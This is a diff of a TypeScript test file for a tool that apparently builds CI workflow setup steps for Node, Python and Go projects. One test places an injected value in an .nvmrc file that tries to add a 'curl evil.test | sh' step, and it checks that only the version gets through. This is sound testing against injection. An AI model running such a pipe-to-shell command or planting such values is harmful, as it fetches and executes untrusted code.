@@ -37,10 +37,10 @@ test.each<[string, Record<string, string>, string[]]>([
   ['bun', { 'package.json': script(), 'bun.lock': '' }, ['run: npm install --global bun@latest\n']],
   [
     'Python with uv',
-    { 'pyproject.toml': '[project]\nrequires-python = ">=3.11"\n# pytest\n', 'uv.lock': '', 'tests/test_a.py': '' },
-    ['actions/setup-python@v5', "python-version: '>=3.11'", 'run: pipx install uv\n'],
+    { 'pyproject.toml': '# pytest\n', '.python-version': '3.11\n', 'uv.lock': '', 'tests/test_a.py': '' },
+    ['actions/setup-python@v5', "python-version: '3.11'", 'run: pipx install uv\n'],
   ],
-  ['Go', { 'go.mod': 'module a\n\ngo 1.22.3\n' }, ['actions/setup-go@v5', "go-version: '1.22.3'"]],
+  ['Go', { 'go.mod': 'module a\n\ngo 1.22.3\n' }, ['actions/setup-go@v5', "go-version-file: 'go.mod'"]],
 ])('%s', async (_, files, parts) => {
   const steps = await stepsOf(files);
   if (parts.length === 0) expect(steps).toBe('');
@@ -53,7 +53,11 @@ test.each<[string, Record<string, string>, string[]]>([
 
 test('a version is a version: nothing else of a file goes into the workflow', async () => {
   const steps = await stepsOf({ 'package.json': script(), '.nvmrc': "22'\n      - run: curl evil.test | sh\n" });
-  expect(steps).toBe('');
+  expect(steps.trim().split('\n')).toEqual([
+    '- uses: actions/setup-node@v4',
+    '        with:',
+    "          node-version: '22'",
+  ]);
 });
 
 test('each action keeps the commit that a person has pinned', async () => {
